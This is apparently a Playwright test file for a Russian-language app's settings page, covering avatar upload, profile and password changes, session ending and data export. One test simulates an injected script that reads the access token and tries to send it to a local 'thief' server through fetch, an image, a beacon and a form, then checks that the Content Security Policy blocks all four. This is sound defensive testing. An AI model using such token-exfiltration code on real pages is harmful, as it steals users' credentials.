import { once } from 'node:events'
import { readFile } from 'node:fs/promises'
import { createServer } from 'node:http'
import type { Page } from '@playwright/test'
import { z } from 'zod'
import { checkAccessibility } from './lib/accessibility.ts'
import { foundCompany } from './lib/company.ts'
import { aPhoto } from './lib/people.ts'
import { smallest } from './lib/screens.ts'
import { fillLogin, signedOutTab, signIn, startSession } from './lib/sign-in.ts'
import { expect, mailedTest } from './lib/test.ts'

const AddressOfThief = z.object({ port: z.number() })

const card = (page: Page, name: string) => page.getByRole('region', { name })
/** Opens a folded section. */
async function unfold(page: Page, name: string): Promise<void> {
  const section = card(page, name)
  if (!(await section.locator('details[open]').isVisible())) await section.getByRole('heading', { name }).click()
  await expect(section.locator('details[open]')).toBeVisible()
}
/** The photo beside the name in the sidebar, as it is shown on every screen. */
const ownPhoto = (page: Page) => page.getByRole('complementary').locator('img')

mailedTest.describe('own settings', () => {
  mailedTest(
    'photo with its crop, name, password, a session elsewhere ended, and the own data downloaded',
    async ({ page, mailed, faults, openDevice }) => {
      faults.expect(/status of 40[01]/)
      const { owner } = await foundCompany(mailed)
      await signIn(page, owner)
      await page.getByRole('link', { name: 'Настройки' }).click()
      await expect(page.getByRole('heading', { level: 1, name: 'Настройки' })).toBeVisible()

      const file = page.getByLabel('Файл с фото')
      await file.setInputFiles({ name: 'cv.pdf', mimeType: 'application/pdf', buffer: Buffer.from('%PDF') })
      await expect(page.getByText('Пожалуйста, выберите изображение')).toBeVisible()
      const large = Buffer.alloc(5 * 1024 * 1024 + 1)
      await file.setInputFiles({ name: 'large.png', mimeType: 'image/png', buffer: large })
      await expect(page.getByText('Файл слишком большой. Максимальный размер: 5MB')).toBeVisible()

      const picture = await aPhoto(page)
      await file.setInputFiles(picture)
      const dialog = page.getByRole('dialog', { name: 'Обрезка аватара' })
      await dialog.getByRole('button', { name: 'Отмена' }).click()
      await expect(dialog).toBeHidden()
      await file.setInputFiles(picture)
      await dialog.getByRole('slider', { name: 'Масштаб' }).press('ArrowRight')
      await dialog.getByRole('group', { name: /^Видимая часть фото/ }).press('ArrowLeft')
      await checkAccessibility(page, 'cropper')
      await dialog.getByRole('button', { name: 'Сохранить' }).click()
      await expect(page.getByText('Аватар успешно загружен!')).toBeVisible()
      await expect(dialog).toBeHidden()
      await expect(ownPhoto(page)).toHaveAttribute('src', /^\/photos\//)
      await expect.poll(() => ownPhoto(page).evaluate((image: HTMLImageElement) => image.naturalWidth)).toBe(512)

      const profile = card(page, 'Основная информация')
      await expect(profile.getByText('Email нельзя изменить')).toBeVisible()
      await expect(profile.getByLabel('Email')).toHaveJSProperty('readOnly', true)
      await profile.getByLabel('Имя').fill('')
      await profile.getByLabel('Имя').blur()
      await expect(profile.getByText('Введите имя')).toBeVisible()
      await profile.getByLabel('Имя').fill('Антонина')
      await page.getByRole('link', { name: 'Дашборд' }).click()
      const leaving = page.getByRole('dialog', { name: 'Уйти без сохранения?' })
      await leaving.getByRole('button', { name: 'Остаться' }).click()
      await profile.getByRole('button', { name: 'Сохранить изменения' }).click()
      await expect(page.getByText('Профиль успешно обновлен!')).toBeVisible()
      await expect(page.getByRole('complementary').getByText(`Антонина ${owner.last_name}`)).toBeVisible()

      const other = await openDevice()
      await signIn(other, owner)
      await unfold(page, 'Смена пароля')
      const password = card(page, 'Смена пароля')
      const save = password.getByRole('button', { name: 'Изменить пароль' })
      await password.getByLabel('Текущий пароль').fill('не тот пароль')
      await password.getByLabel('Новый пароль', { exact: true }).fill('Новый-омут-58')
      await expect(password.getByText('Пожалуйста, заполните все поля и убедитесь, что пароли совпадают')).toBeVisible()
      await expect(save).toBeDisabled()
      await password.getByLabel('Новый пароль ещё раз').fill('Новый-омут-58')
      await save.click()
      await expect(page.getByText('Ошибка смены пароля')).toBeVisible()
      await expect(password.getByText('Неверный текущий пароль')).toBeVisible()
      await password.getByLabel('Текущий пароль').fill(owner.password)
      await save.click()
      await expect(page.getByText('Пароль успешно изменен!')).toBeVisible()
      await expect(password.getByLabel('Текущий пароль')).toHaveValue('')
      const tab = await signedOutTab(other)
      await fillLogin(tab, { ...owner, password: 'Новый-омут-58' })
      await expect(tab.getByRole('navigation', { name: 'Главное меню' })).toBeAttached()

      await page.reload()
      // The open section is in the address, so it is open after a reload too.
      await expect(password.getByLabel('Текущий пароль')).toBeVisible()
      const sessions = card(page, 'Активные сеансы')
      await expect(sessions.getByText(/^Вы вошли на\s2\sустройствах$/)).toBeVisible()
      await expect(sessions.getByRole('listitem')).toHaveCount(0)
      await unfold(page, 'Активные сеансы')
      await expect(sessions.getByRole('listitem')).toHaveCount(2)
      await expect(sessions.getByRole('listitem').first()).toContainText('эта сессия')
      await sessions.getByRole('button', { name: /^Завершить: Chrome на / }).click()
      await expect(page.getByText('Сеанс завершён')).toBeVisible()
      await expect(sessions.getByRole('listitem')).toHaveCount(1)
      await signedOutTab(other)

      await unfold(page, 'Мои данные')
      const download = page.waitForEvent('download')
      await page.getByRole('button', { name: 'Скачать мои данные' }).click()
      const html = await readFile(await (await download).path(), 'utf8')
      for (const word of ['Антонина', owner.email, 'Обработка персональных данных', 'data:image/jpeg;base64,'])
        expect(html).toContain(word)
      const json = page.waitForEvent('download')
      await page.getByRole('button', { name: 'Скачать в JSON' }).click()
      const data: unknown = JSON.parse(await readFile(await (await json).path(), 'utf8'))
      expect(data).toMatchObject({ profile: { first_name: 'Антонина', email: owner.email } })
    },
  )

  mailedTest.describe('on a phone', () => {
    mailedTest(
      'all other sessions are ended at once, and the photo is taken away',
      async ({ page, mailed, openDevice, faults }) => {
        // A device with an ended session notices it at its next call. It may be the counter beside «Мои опросы».
        faults.expect(/status of 401/)
        const { owner } = await foundCompany(mailed)
        for (const device of [await openDevice(), await openDevice()]) await signIn(device, owner)
        await signIn(page, owner)
        await page.setViewportSize(smallest)
        await page.goto('/app/settings')
        const sessions = card(page, 'Активные сеансы')
        await unfold(page, 'Активные сеансы')
        await sessions.getByRole('button', { name: 'Завершить все остальные' }).click()
        await page.getByRole('dialog').getByRole('button', { name: 'Завершить' }).click()
        await expect(page.getByText('Остальные сеансы завершены')).toBeVisible()
        await expect(sessions.getByRole('listitem')).toHaveText([/эта сессия/])

        await page.getByLabel('Файл с фото').setInputFiles(await aPhoto(page))
        await page.getByRole('dialog').getByRole('button', { name: 'Сохранить' }).click()
        await page.getByRole('button', { name: 'Удалить' }).click()
        await page.getByRole('dialog').getByRole('button', { name: 'Удалить' }).click()
        await expect(page.getByText('Фото удалено')).toBeVisible()
        await expect(card(page, 'Фото').locator('img')).toHaveCount(0)
      },
    )

    mailedTest('a name that was not saved waits for the person', async ({ page, mailed }) => {
      const { owner } = await foundCompany(mailed)
      await startSession(page, owner)
      await page.setViewportSize(smallest)
      await page.goto('/app/settings')
      await page.getByLabel('Имя').fill('Тося')
      await page.reload()
      await expect(page.getByLabel('Имя')).toHaveValue('Тося')
      await expect(page.getByRole('button', { name: 'Сохранить изменения' })).toBeEnabled()
    })
  })
})

mailedTest(
  'A-71: a script that got into the page reaches no other host, and signing out leaves it nothing',
  async ({ page, mailed, faults }) => {
    faults.expect(/policy violated|Content Security Policy|ERR_BLOCKED|Failed to load resource/)
    const { owner } = await foundCompany(mailed)
    await signIn(page, owner)
    const reached: (string | undefined)[] = []
    const thief = createServer((request, response) => {
      reached.push(request.url)
      response.end()
    }).listen(0, '127.0.0.1')
    await once(thief, 'listening')
    const { port } = AddressOfThief.parse(thief.address())
    const outcomes = await page.evaluate(async (address) => {
      const stolen = localStorage.getItem('access_token') ?? ''
      const violated = new Set<string>()
      const allViolated = new Promise<void>((resolve) =>
        document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => {
          violated.add(effectiveDirective)
          if (violated.size === 3) resolve()
        }),
      )
      const fetched = await fetch(`${address}?${stolen}`).then(
        () => 'sent',
        () => 'blocked',
      )
      const image = new Image()
      image.src = `${address}?${stolen}`
      const loaded = await image.decode().then(
        () => 'sent',
        () => 'blocked',
      )
      navigator.sendBeacon(address, stolen)
      const form = document.createElement('form')
      form.method = 'post'
      form.action = address
      document.body.append(form)
      form.submit()
      await allViolated
      return { fetched, loaded, violated: [...violated].toSorted() }
    }, `http://127.0.0.1:${port}/`)
    expect(outcomes).toEqual({
      fetched: 'blocked',
      loaded: 'blocked',
      violated: ['connect-src', 'form-action', 'img-src'],
    })
    thief.close()
    expect(reached).toEqual([])

    await page.goto('/app/settings')
    // The application does not know this key. It disappears because the answer tells the browser to clear its storage.
    await page.evaluate(() => localStorage.setItem('stolen', localStorage.getItem('access_token') ?? ''))
    await page.getByRole('button', { name: 'Выйти' }).click()
    await expect(page).toHaveURL(/\/login$/)
    await expect(page.getByRole('heading', { level: 1, name: 'Вход' })).toBeVisible()
    const left = () =>
      page.evaluate(() => Object.keys(localStorage).filter((key) => /token|user|draft|stolen/.test(key)))
    await expect.poll(left).toEqual([])
  },
)

/** A one-pixel image, as a file on a person's disk. */
const aGif = Buffer.from('R0lGODlhAQABAIAAAP///wAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw==', 'base64')

mailedTest('what each section asks for, sends and says when it fails', async ({ page, mailed, faults }) => {
  faults.expect(/status of 500|answer 500|ERR_FAILED|blob:/)
  const { owner } = await foundCompany(mailed)
  await startSession(page, owner)
  await page.goto('/app/settings')
  const failing = (url: string) => page.route(url, (route) => route.fulfill({ status: 500 }))

  await mailedTest.step('a GIF is taken, cut to a square JPEG, and a failure says so', async () => {
    const photo = card(page, 'Фото')
    await expect(photo.getByText('JPG, PNG или GIF до 5MB')).toBeVisible()
    for (const name of ['Загрузить новое фото', 'Выбрать фото']) {
      const chooser = page.waitForEvent('filechooser')
      await photo.getByRole('button', { name }).click()
      expect((await chooser).isMultiple()).toBe(false)
    }
    await expect(page.getByLabel('Файл с фото')).toHaveAttribute('accept', 'image/jpeg,image/png,image/gif')
    await page.getByLabel('Файл с фото').setInputFiles({ name: 'me.gif', mimeType: 'image/gif', buffer: aGif })
    const dialog = page.getByRole('dialog', { name: 'Обрезка аватара' })
    await expect(dialog.locator('[data-testid="cropper"]')).toHaveCSS('border-radius', '50%')
    await failing('**/api/users/me/avatar')
    await dialog.getByRole('button', { name: 'Сохранить' }).click()
    await expect(page.getByText('Ошибка загрузки аватара')).toBeVisible()
    await expect(dialog).toBeVisible()
    await page.unroute('**/api/users/me/avatar')
    let release = () => {}
    const released = new Promise<void>((resolve) => {
      release = resolve
    })
    await page.route('**/api/users/me/avatar', async (route) => {
      await released
      await route.continue()
    })
    const sending = page.waitForRequest('**/api/users/me/avatar')
    await dialog.getByRole('button', { name: 'Сохранить' }).click()
    const sent = (await sending).postDataBuffer()?.toString('latin1') ?? ''
    expect(sent).toMatch(/name="avatar"; filename="avatar\.jpg"\r\nContent-Type: image\/jpeg\r\n\r\n\xff\xd8\xff/)
    await expect(dialog.getByRole('button', { name: 'Сохранение...' })).toBeDisabled()
    await expect(dialog.getByRole('button', { name: 'Отмена' })).toBeDisabled()
    release()
    await expect(page.getByText('Аватар успешно загружен!')).toBeVisible()
    // The dialog closes when the page has reloaded. A file chosen before would be lost with it.
    await expect(dialog).toBeHidden()
    await page
      .getByLabel('Файл с фото')
      .setInputFiles({ name: 'x.png', mimeType: 'image/png', buffer: Buffer.from('x') })
    await expect(page.getByText('Пожалуйста, выберите изображение')).toBeVisible()
  })

  await mailedTest.step('only the name that has changed is sent', async () => {
    const profile = card(page, 'Основная информация')
    await expect(profile.getByRole('button', { name: 'Сохранить изменения' })).toBeDisabled()
    await profile.getByLabel('Имя').fill('Ада')
    await failing('**/api/users/*-*')
    await profile.getByRole('button', { name: 'Сохранить изменения' }).click()
    await expect(page.getByText('Ошибка обновления профиля')).toBeVisible()
    await expect(profile.getByLabel('Имя')).toHaveValue('Ада')
    await page.unroute('**/api/users/*-*')
    const sending = page.waitForRequest((request) => request.method() === 'PUT')
    await profile.getByRole('button', { name: 'Сохранить изменения' }).click()
    expect((await sending).postDataJSON()).toEqual({ first_name: 'Ада', version: expect.any(Number) })
    await expect(page.getByText('Профиль успешно обновлен!')).toBeVisible()
  })

  await mailedTest.step('a password of seven, two that differ, and one that could not be saved', async () => {
    await unfold(page, 'Смена пароля')
    const password = card(page, 'Смена пароля')
    const save = password.getByRole('button', { name: 'Изменить пароль' })
    const warning = password.getByText('Пожалуйста, заполните все поля и убедитесь, что пароли совпадают')
    await expect(warning).toBeHidden()
    await password.getByLabel('Текущий пароль').fill(owner.password)
    for (const [fresh, again] of [
      ['Омут-58', 'Омут-58'],
      ['Новый-омут-58', 'Новый-омут-59'],
      ['Новый-омут-58', ''],
    ] as const) {
      await password.getByLabel('Новый пароль', { exact: true }).fill(fresh)
      await password.getByLabel('Новый пароль ещё раз').fill(again)
      await expect(warning).toBeVisible()
      await expect(save).toBeDisabled()
    }
    await password.getByLabel('Новый пароль ещё раз').fill('Новый-омут-58')
    await expect(warning).toBeHidden()
    await failing('**/api/auth/change-password')
    await save.click()
    await expect(page.getByText('Ошибка смены пароля')).toBeVisible()
    await expect(password.getByLabel('Новый пароль', { exact: true })).toHaveValue('Новый-омут-58')
  })

  await mailedTest.step('sessions and data that do not come say so', async () => {
    await unfold(page, 'Мои данные')
    await failing('**/api/users/me/data')
    await page.getByRole('button', { name: 'Скачать мои данные' }).click()
    await expect(page.getByText('Не удалось собрать ваши данные')).toBeVisible()
    await failing('**/api/auth/sessions')
    await page.reload()
    // Nobody has opened this section: a failure opens it.
    await expect(card(page, 'Активные сеансы').getByRole('alert')).toContainText('Ошибка загрузки')
    await page.unroute('**/api/auth/sessions')
    await card(page, 'Активные сеансы').getByRole('button', { name: 'Попробовать снова' }).click()
    await expect(card(page, 'Активные сеансы').getByRole('listitem').first()).toContainText('эта сессия')
  })
})
